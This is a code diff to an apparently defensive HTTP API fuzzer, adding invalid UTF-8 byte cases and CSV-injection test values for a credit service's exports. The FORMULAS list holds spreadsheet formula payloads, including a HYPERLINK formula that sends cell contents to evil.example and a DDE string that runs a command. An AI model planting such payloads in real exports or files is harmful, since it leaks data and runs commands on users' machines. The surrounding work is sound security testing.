@@ -30,7 +30,8 @@ export interface FuzzRequest {
   readonly method: string;
   readonly path: string;
   readonly headers: Record<string, string>;
-  readonly body: string | null;
+  /** The exact text sent, or the bytes where they are not UTF-8. */
+  readonly body: string | Buffer | null;
   /** Sent without Content-Length (chunked), so a limit must be enforced while reading. */
   readonly chunked: boolean;
   /** What was done to the valid body (for the report). */
@@ -39,6 +40,10 @@ export interface FuzzRequest {
   readonly mustRefuse: boolean;
 }
 
+/** Text a spreadsheet runs as a formula when an export writes it as it is (OWASP, CSV injection). */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Refund")', "=cmd|' /C calc'!A0", '+1+1', '-2-3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+/** Bytes that are not UTF-8: a byte that cannot follow C3, an overlong "/", a surrogate, past U+10FFFF, a lone continuation, FF, a sequence cut short. */
+const NOT_UTF8 = [[0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xff], [0xe2, 0x82]];
 const NASTY_STRINGS = [
   '',
   ' ',
@@ -79,7 +84,10 @@ const NASTY_STRINGS = [
   '9999x9999',
   '0x0',
   '-1x-1',
+  ...FORMULAS,
 ];
+/** Where the bytes of NOT_UTF8 go in a body's text (JSON.stringify cannot write them). */
+const BYTES_GO_HERE = '<not-utf-8>';
 /** Characters PostgreSQL text and jsonb refuse, and other troublemakers, to hide inside valid strings. */
 const POISON = ['\u0000', '\ud800', '\udfff', '\ud83d', '\u0000\u0000', '\uffff', '\u2028', '\u001b'];
 const NASTY_NUMBERS = [0, -1, -0, 0.5, -0.5, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER];
@@ -140,7 +148,7 @@ const show = (value: Tree) => {
 };
 
 interface BodyCase {
-  readonly text: string | null;
+  readonly text: string | Buffer | null;
   readonly mutation: string;
   readonly mustRefuse: boolean;
   readonly contentType?: string | null;
@@ -162,6 +170,27 @@ function jsonBodies(base: Record<string, unknown>, limit: number): fc.Arbitrary<
       const cut = at % (value.length + 1);
       parent[key] = value.slice(0, cut) + poison + value.slice(cut);
       return { text: writeJson(body), mutation: `insert ${JSON.stringify(poison)} into ${describePath(p)} at ${cut}`, mustRefuse: false };
+    }) },
+    // Inside a string such bytes were read as U+FFFD, and the request served and billed.
+    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...NOT_UTF8), fc.nat()).map(([p, bytes, at]): BodyCase => {
+      const body = clone();
+      const { parent, key } = parentOf(body, p);
+      const value = parent[key] as string;
+      const cut = at % (value.length + 1);
+      parent[key] = value.slice(0, cut) + BYTES_GO_HERE + value.slice(cut);
+      const [before, after] = writeJson(body).split(BYTES_GO_HERE);
+      return {
+        text: Buffer.concat([Buffer.from(before!), Buffer.from(bytes), Buffer.from(after!)]),
+        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) into ${describePath(p)} at ${cut}`,
+        mustRefuse: true,
+      };
+    }) },
+    // Accepted where the field takes any text (a credit's reference and note): the exports must neutralise it.
+    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...FORMULAS)).map(([p, formula]): BodyCase => {
+      const body = clone();
+      const { parent, key } = parentOf(body, p);
+      parent[key] = formula;
+      return { text: writeJson(body), mutation: `set ${describePath(p)} = ${JSON.stringify(formula)}`, mustRefuse: false };
     }) },
   ];
   return fc.oneof(
@@ -193,6 +222,16 @@ function jsonBodies(base: Record<string, unknown>, limit: number): fc.Arbitrary<
       return { text: writeJson(body), mutation: `duplicate key ${name} = ${show(value)} ${badLast ? 'after' : 'before'} the valid one`, mustRefuse: false };
     }) },
     { weight: 1, arbitrary: badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `whole body = ${show(value)}`, mustRefuse: !isJsonObject(value) })) },
+    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NOT_UTF8), fc.nat(), fc.boolean()).map(([bytes, at, chunked]): BodyCase => {
+      const text = Buffer.from(writeJson(clone()));
+      const cut = at % (text.length + 1);
+      return {
+        text: Buffer.concat([text.subarray(0, cut), Buffer.from(bytes), text.subarray(cut)]),
+        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) at byte ${cut}${chunked ? ', chunked' : ''}`,
+        mustRefuse: true,
+        chunked,
+      };
+    }) },
     { weight: 1, arbitrary: fc.constantFrom<BodyCase>(
       { text: '', mutation: 'empty body', mustRefuse: true },
       { text: null, mutation: 'no body at all', mustRefuse: true, contentType: null },
